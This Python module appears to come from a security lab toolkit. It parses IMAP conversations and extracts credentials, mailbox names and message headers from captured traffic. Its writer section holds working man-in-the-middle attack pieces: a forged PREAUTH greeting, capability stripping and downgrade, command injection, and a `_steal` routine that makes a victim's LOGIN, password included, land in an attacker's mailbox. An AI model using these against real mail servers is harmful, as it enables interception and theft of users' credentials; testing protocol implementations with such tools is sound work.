"""IMAP: RFC 9051 and 3501, with literals that do not wait (RFC 7888), SASL-IR (RFC 4959) and IDLE (RFC 2177).

A command is cut where it announces a literal, because the server may have a say there: what follows is a continuation,
or the message that APPEND brings. A response is one phrase with all its literals. What the words mean is `imap_words`.
"""

import re

from labkit.dialects.base import CLIENT, SERVER, Dialect, Phrase
from labkit.dialects.imap_words import CAPABILITIES, COMMANDS, GREETINGS, REPLIES, explain
from labkit.dialects.reader import LARGEST, State, TextReader
from labkit.dialects.writing import (
    Account,
    Injected,
    Writer,
    counted_on,
    first_word,
    lines,
    listed,
    tagged_command,
    willing,
)

_COMMAND = re.compile(rb"([^\s*+]+) +((?:UID +)?[A-Z]+)", re.IGNORECASE)
_DONE = re.compile(rb"DONE\s*$", re.IGNORECASE)
_LITERAL = re.compile(rb"\{(\d{1,19})(\+?)\}\r?\n$")
_MAILBOX_AS_LITERAL = re.compile(rb"\S+ +APPEND +\{", re.IGNORECASE)
_UNTAGGED = re.compile(rb"\* +(?:\d+ +)?([A-Za-z]+)")
_TAGGED = re.compile(rb"([^\s*+]+) +(OK|NO|BAD)\b", re.IGNORECASE)
_ONE_LINE = re.compile(rb"\+|\S+ +(?:OK|NO|BAD|BYE|PREAUTH)\b", re.IGNORECASE)
"""Responses that end in text for people: braces in it are no literal."""


class _Reader(TextReader):
    """Follows one IMAP conversation. See `labkit.dialects.base.Reader`."""

    _longest = 1 << 20
    """The answer to SEARCH is one line, however many messages fit."""

    def __init__(self) -> None:
        super().__init__()
        self._tag = b""
        self._verb = ""
        self._waiting = False
        """Whether the client goes on only after an answer to its last command."""
        self._after_plus: State = _Reader._command
        """What the client says once the server lets it go on."""
        self._literal = 0
        """Bytes of the literal that the client sends next."""
        self._brings_mail = False
        self._known = 0
        """Bytes of the server's response in which no end has to be looked for."""
        self._begun: Phrase | None = None
        """The last piece of a response that is too large to come in one."""
        self._spoken = False
        """Whether anything was said, so that a response is no greeting."""

    def rest(self, sender: str) -> bytes:
        if sender == SERVER:
            self._known, self._begun = 0, None
        elif self._client == _Reader._continuation:
            self._client = _Reader._command
        return super().rest(sender)

    # ---- what the client says next

    def _command(self) -> Phrase | None:
        line = self._take_line()
        if not line:
            return None
        self._spoken = True
        match = _COMMAND.match(line)
        self._tag, self._verb = (match[1], _verb(match[2])) if match else (b"", _without_tag(line))
        self._brings_mail = self._verb == "APPEND" and not _MAILBOX_AS_LITERAL.match(line)
        self._await(line)
        return Phrase(CLIENT, "command", self._verb, line)

    def _await(self, line: bytes) -> None:
        """Whether the client goes on by itself after this line."""
        literal = _LITERAL.search(line)
        if literal:
            self._literal = int(literal[1])
            self._go_on(_Reader._continuation, at_once=bool(literal[2]))
        elif self._verb in _THEN:
            self._go_on(_THEN[self._verb], at_once=False)
        else:
            self._client = _Reader._command

    def _go_on(self, following: State, at_once: bool) -> None:
        self._client = following if at_once else _Reader._wait
        self._waiting, self._after_plus = not at_once, following

    def _continuation(self) -> Phrase | None:
        """A literal, and the rest of the line behind it."""
        buffer = self._buffers[CLIENT]
        kind, title = ("message", "message") if self._brings_mail else ("continuation", self._verb)
        end = buffer.line(self._literal)
        if end and end <= LARGEST + self._longest:
            data = buffer.take(end)
            self._await(data[self._literal :])
            self._brings_mail = self._verb == "APPEND"
            return Phrase(CLIENT, kind, title, data)
        if not buffer.full:
            return None
        self._literal = max(0, self._literal - LARGEST)
        return Phrase(CLIENT, kind, title, buffer.take(LARGEST))

    def _credential(self) -> Phrase | None:
        line = self._take_line()
        if not line:
            return None
        self._go_on(_Reader._credential, at_once=False)
        return Phrase(CLIENT, "credential", "credential", line)

    # ---- what the server answers

    def _reply(self) -> Phrase | None:
        buffer = self._buffers[SERVER]
        end = self._response_end()
        if not end:
            return self._piece() if buffer.full else None
        if self._waiting and self._overtaken(buffer[:end]):
            self._waiting, self._client = False, _Reader._command
            return self._command()
        begun, self._begun, known, self._known = self._begun, None, self._known, 0
        data = buffer.take(end)
        phrase = begun._replace(data=data) if begun else self._response(data, known > 0)
        self._spoken = True
        return phrase

    def _overtaken(self, response: bytes) -> bool:
        """Whether this answers a command that the client gave later, because it waited no longer."""
        match = _TAGGED.match(response)
        later = match is not None and match[1] != self._tag and b"\n" + match[1] + b" "
        return bool(later) and later in b"\n" + self._buffers[CLIENT]

    def _piece(self) -> Phrase:
        """As much of a response as one phrase may hold."""
        data = self._buffers[SERVER].take(LARGEST)
        self._known = max(0, self._known - LARGEST)
        self._begun = self._begun._replace(data=data) if self._begun else self._response(data, True)
        return self._begun

    def _response_end(self) -> int:
        """Where the response ends: behind the first line that announces no literal."""
        buffer = self._buffers[SERVER]
        end = buffer.line(self._known)
        if not self._known and _ONE_LINE.match(buffer):
            return end
        while end and (literal := _LITERAL.search(buffer, max(self._known, end - 25), end)):
            self._known = end + int(literal[1])
            end = buffer.line(self._known)
        return end if end <= LARGEST + self._longest else 0

    def _response(self, data: bytes, has_literals: bool) -> Phrase:
        if data.startswith(b"+"):
            return self._lets_go_on(data)
        if match := _UNTAGGED.match(data):
            return self._untagged(match[1].decode().upper(), data, has_literals)
        if match := _TAGGED.match(data):
            return self._tagged(match[1], match[2].decode().upper(), data)
        return Phrase(SERVER, "unknown", "unknown", data)

    def _lets_go_on(self, data: bytes) -> Phrase:
        if not self._waiting:
            return Phrase(SERVER, "reply", "+", data)
        self._client = self._after_plus
        return Phrase(SERVER, "challenge" if self._after_plus == _Reader._credential else "reply", "+", data)

    def _untagged(self, name: str, data: bytes, has_literals: bool) -> Phrase:
        if name in GREETINGS and not self._spoken:
            return Phrase(SERVER, "greeting", name, data)
        if name == "FETCH" and has_literals:
            return Phrase(SERVER, "message", name, data)
        return Phrase(SERVER, "untagged", name if name in REPLIES else "unknown response", data)

    def _tagged(self, tag: bytes, name: str, data: bytes) -> Phrase:
        if not self._waiting or tag != self._tag:
            return Phrase(SERVER, "reply", name, data)
        self._waiting, self._client = False, _Reader._command
        if self._verb != "STARTTLS":
            return Phrase(SERVER, "reply", name, data)
        self.upgraded = name == "OK"
        return Phrase(SERVER, "go-ahead" if self.upgraded else "refusal", name, data)


_THEN = {"STARTTLS": _Reader._command, "AUTHENTICATE": _Reader._credential}
"""Command after which only an answer says what the client's next bytes are -> what they are if it may go on."""


def _verb(text: bytes) -> str:
    verb = " ".join(text.decode().upper().split())
    return verb if verb in COMMANDS else "unknown command"


def _without_tag(line: bytes) -> str:
    return "DONE" if _DONE.match(line) else "unknown command"


def _messages(data: bytes) -> list[tuple[int, int]]:
    """The literals of a FETCH response; the one of APPEND without the end of its line."""
    if not _UNTAGGED.match(data):
        return [(0, len(data.removesuffix(b"\n").removesuffix(b"\r")))]
    found = []
    end = data.find(b"\n") + 1
    while end and (literal := _LITERAL.search(data, max(0, end - 25), end)):
        start, behind = end, end + int(literal[1])
        found.append((start, min(behind, len(data))))
        end = data.find(b"\n", behind) + 1
    return found


def _recognises(greeting: bytes) -> bool:
    return greeting.upper().startswith((b"* OK", b"* PREAUTH", b"* BYE"))


# ---- what commands and responses tell


def _string(name: str, behind: str = r"\s*$") -> str:
    """An atom, a quoted string or a literal (RFC 9051 §4), as a group; `behind` is what may follow a literal."""
    return (
        rf'(?:"|\{{\d+\+?\}}\r?\n)?'
        rf'(?P<{name}>(?<=")(?:[^"\\\r\n]|\\.)*|(?<=\n)[^\r\n]*?(?={behind})|[^\s"{{()*%]+)"?'
    )


_PASSWORD = r"\s+(?:\S+\s*$|\{\d|\")"
_MAILBOX = r"[^*\s]\S* +[A-Z]+ +" + _string("mailbox")
_ADDRESSES = r"(?:NIL|\(\(.*?\)\))"
_QUOTED = r'(?:NIL|"(?:[^"\\]|\\.)*")'

_DISCLOSES = {
    "LOGIN": rf"\S+ +LOGIN +{_string('user_name', _PASSWORD)}(?: +{_string('password')})?",
    "LIST": r"\* +LIST +\([^)]*\) +\S+ +" + _string("mailbox"),
    "LSUB": r"\* +LSUB +\([^)]*\) +\S+ +" + _string("mailbox"),
    "STATUS": r"\S+ +STATUS +" + _string("mailbox", r"\s*\("),
    "APPEND": r"\S+ +APPEND +" + _string("mailbox", r"\s+[({\"]"),
    "RENAME": r"\S+ +RENAME +" + _string("mailbox", r"\s") + " +" + _string("new_mailbox"),
    "COPY": r"\S+ +COPY +\S+ +" + _string("mailbox"),
    "MOVE": r"\S+ +MOVE +\S+ +" + _string("mailbox"),
    "UID COPY": r"\S+ +UID +COPY +\S+ +" + _string("mailbox"),
    "UID MOVE": r"\S+ +UID +MOVE +\S+ +" + _string("mailbox"),
    "SEARCH": r"[^*\s]\S* +SEARCH +(?P<search>[^\r\n]+)",
    "UID SEARCH": r"\S+ +UID +SEARCH +(?P<search>[^\r\n]+)",
    "ID": r"\S+ +ID +\((?P<program>[^)]+)\)",
    "FETCH": (
        rf'\* +\d+ +FETCH +.*?ENVELOPE +\({_QUOTED} +(?:NIL|"(?P<subject>(?:[^"\\]|\\.)*)") +'
        rf"(?:NIL|\((?P<from>\(.*?\))\)) +{_ADDRESSES} +{_ADDRESSES} +(?:NIL|\((?P<to>\(.*?\))\))"
    ),
    **dict.fromkeys(("SELECT", "EXAMINE", "CREATE", "DELETE", "SUBSCRIBE", "UNSUBSCRIBE"), _MAILBOX),
}


def _steal(tag: str, account: Account, login: int) -> bytes:
    """The size of the message has to be known before: what the victim says up to the end of its LOGIN."""
    first = counted_on(tag)
    second = counted_on(first)
    third = counted_on(second)
    swallowed = len(f"{first} CAPABILITY\r\n{second} LOGIN ") + login
    return (
        tagged_command("CAPABILITY", first)
        + tagged_command(f"LOGIN {account.user} {account.password}", second)
        + tagged_command(f"APPEND INBOX {{{swallowed}}}", third)
    )


def _preauth(greeting: bytes) -> bytes:
    return b"* PREAUTH" + greeting[greeting.find(b" ", 2) :]


def _corner(phrase: Phrase) -> bytes | None:
    """A greeting that makes no sense."""
    return b"* HELLO " + phrase.data[phrase.data.find(b" ", 2) + 1 :] if phrase.kind == "greeting" else None


WRITER = Writer(
    command=tagged_command,
    replies=lines(
        done="{tag} OK {text}",
        refused="{tag} BAD {text}",
        later="{tag} NO {text}",
        odd="+ {text}",
        go_ahead="{tag} OK {text}",
    ),
    willing=willing({"APPEND": b"+ OK\r\n"}, b"{tag} OK\r\n"),
    login=lambda user, password, tag: tagged_command(f"LOGIN {user} {password}", tag),
    capabilities=listed(
        rb"(?P<head>\* CAPABILITY |[^\r\n]*?\[CAPABILITY )(?P<list>[^\]\r\n]*)(?P<tail>[^\n]*\n)",
        lambda text: tuple(text.split()),
        " ".join,
        "* CAPABILITY IMAP4rev1 {list}\r\n{tag} OK CAPABILITY completed\r\n",
        unasked=True,
    ),
    tag=first_word,
    next_tag=counted_on,
    login_names=frozenset({"AUTH", "LOGINDISABLED"}),
    clear_login=("AUTH=PLAIN",),
    weaker_login=("AUTH=LOGIN",),
    upload="APPEND",
    older=("IMAP4",),  # RFC 1730 knows no STARTTLS
    preauth=_preauth,
    corner=_corner,
    injected=Injected("NOOP", r"mallory "),
    steal=_steal,
)

IMAP = Dialect(
    name="IMAP",
    source="RFC 9051, RFC 3501",
    explicit_ports=(143,),
    implicit_ports=(993,),
    ask="CAPABILITY",
    token="STARTTLS",
    upgrade="STARTTLS",
    go_ahead="OK",
    messages=_messages,
    sasl=r"\S+ +AUTHENTICATE +(?P<mechanism>\S+)(?: +(?P<initial>\S+))?",
    reader=_Reader,
    writes=WRITER,
    recognises=_recognises,
    explain=explain,
    tagged=True,
    commands=COMMANDS,
    replies=REPLIES,
    capabilities=CAPABILITIES,
    discloses=_DISCLOSES,
)
